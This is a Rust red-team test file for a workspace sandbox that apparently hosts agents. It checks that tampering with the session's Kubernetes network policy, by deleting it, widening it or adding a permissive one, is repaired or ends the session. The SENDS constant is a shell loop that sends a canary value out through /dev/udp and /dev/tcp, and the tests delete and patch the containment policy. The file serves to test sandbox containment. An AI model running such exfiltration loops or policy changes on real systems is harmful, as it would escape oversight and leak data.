//! Red team, A13: the policy is taken away or changed while a session runs.

use std::{
    net::IpAddr,
    time::{Duration, SystemTime},
};

use anyhow::{Result, ensure};
use ws_tests::{
    lab::Lab,
    namespace::with_namespace,
    probe::{INTERNET, Target, canary, from_pod, from_workspace, open_pod},
    project::Project,
    wait::{PATIENCE, eventually},
    ws::Ws,
};

const POLICY: &str = "ws-class-default";
const REPAIR: Duration = Duration::from_secs(5);

async fn policy(lab: &Lab, namespace: &str) -> Result<String> {
    lab.fields(namespace, &format!("networkpolicy/{POLICY}"), "{.spec}").await
}

/// Runs `attack` on a session's policy; fails unless the policy is as before within 5 s, and the session still contained.
async fn is_repaired(attack: impl AsyncFnOnce(&Lab, &str) -> Result<()>) -> Result<()> {
    with_namespace(async |lab, namespace| {
        let ws = Ws::new(lab, namespace)?;
        ws.up("kept", Project::empty()?.path()).await?;
        let before = policy(lab, namespace).await?;
        attack(lab, namespace).await?;
        eventually(REPAIR, "the policy as before", async || {
            let now = policy(lab, namespace).await?;
            ensure!(now == before, "{now}");
            anyhow::Ok(Some(()))
        })
        .await?;
        let targets = [Target::tcp(INTERNET, 80, &canary()?)];
        match from_workspace(&ws, "kept", &targets).await {
            Ok(reached) => ensure!(reached.is_empty(), "the workspace reached {reached:?}"),
            // Its agent may have reached the canary in between.
            Err(error) => {
                eventually(REPAIR, "an answer of the session, or phase Failed", async || {
                    let phase = lab.fields(namespace, "workspace/kept", "{.status.phase}").await?;
                    ensure!(phase == "Failed", "{phase}, and {error:#}");
                    anyhow::Ok(Some(()))
                })
                .await?;
            }
        }
        open_pod(lab, namespace, "open").await?;
        let control = from_pod(lab, namespace, "open", &targets).await?;
        ensure!(control.len() == targets.len(), "nothing is proven: an open pod reaches nothing either");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a13_a_deleted_policy_is_back_within_five_seconds() -> Result<()> {
    is_repaired(async |lab, namespace| {
        lab.kubectl(&["-n", namespace, "delete", "networkpolicy", POLICY]).await?.ok().map(drop)
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a13_a_widened_policy_is_repaired_within_five_seconds() -> Result<()> {
    is_repaired(async |lab, namespace| {
        let patch = r#"[{"op": "replace", "path": "/spec/egress", "value": [{}]}]"#;
        lab.kubectl(&["-n", namespace, "patch", "networkpolicy", POLICY, "--type=json", "-p", patch])
            .await?
            .ok()
            .map(drop)
    })
    .await
}

/// Sends what `$1` says to `$2` again and again, by datagrams and by connections, each of which may wait while the others go on.
const SENDS: &str = "while sleep 0.2; do echo $1 > /dev/udp/$2/53; timeout 3 bash -c \"echo $1 > /dev/tcp/$2/80\" & touch /tmp/sends; done";

#[tokio::test]
#[ignore = "needs the lab"]
async fn a13_a_second_policy_that_widens_the_first_ends_the_sessions() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, project, began) = (Ws::new(lab, namespace)?, Project::empty()?, SystemTime::now());
        let (from_inside, from_outside) = (canary()?, canary()?);
        ws.up("widened", project.path()).await?;
        let own: IpAddr = lab.fields(namespace, "pod/widened", "{.status.podIP}").await?.parse()?;
        let arrived = |since| lab.arrivals(since, |sender| sender == own);
        let send = ["attach", "widened", "--", "bash", "-c", SENDS, "bash", &from_inside, INTERNET];
        let _sender = ws.start(project.path(), &send)?;
        eventually(PATIENCE, "a session that sends", async || {
            anyhow::Ok(ws.bash("widened", "test -e /tmp/sends").await?.is_ok().then_some(()))
        })
        .await?;
        let before = arrived(began)?;
        ensure!(
            before.is_empty() && !lab.has_sunk(&from_inside)?,
            "before it was widened arrived {before:?}"
        );

        let policy = serde_json::json!({
            "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "helpful"},
            "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]},
        });
        lab.kubectl_with(&["-n", namespace, "create", "-f", "-"], &policy.to_string()).await?.ok()?;
        eventually(REPAIR, "phase Failed, and no pod", async || {
            let fields = "{.status.phase} {.status.message}";
            let phase = lab.fields(namespace, "workspace/widened", fields).await?;
            let pod = lab.kubectl(&["-n", namespace, "get", "pods", "-o", "name"]).await?.ok()?.stdout;
            ensure!(
                phase.starts_with("Failed") && phase.contains("helpful") && pod.is_empty(),
                "{phase} {pod}"
            );
            anyhow::Ok(Some(()))
        })
        .await?;
        // The control: who is not ended gets out by that policy, and goes on. It lasts longer than a connection waits.
        let ended = SystemTime::now();
        open_pod(lab, namespace, "open").await?;
        let line = format!("timeout 4 bash -c '{SENDS}' bash {from_outside} {INTERNET}; true");
        lab.kubectl(&["-n", namespace, "exec", "open", "--", "bash", "-c", &line]).await?.ok()?;
        ensure!(lab.sunk()?.contains(&from_outside), "nothing is proven: an open pod sends nothing either");
        let after = arrived(ended)?;
        ensure!(after.is_empty(), "after its end arrived {after:?}");
        Ok(())
    })
    .await
}
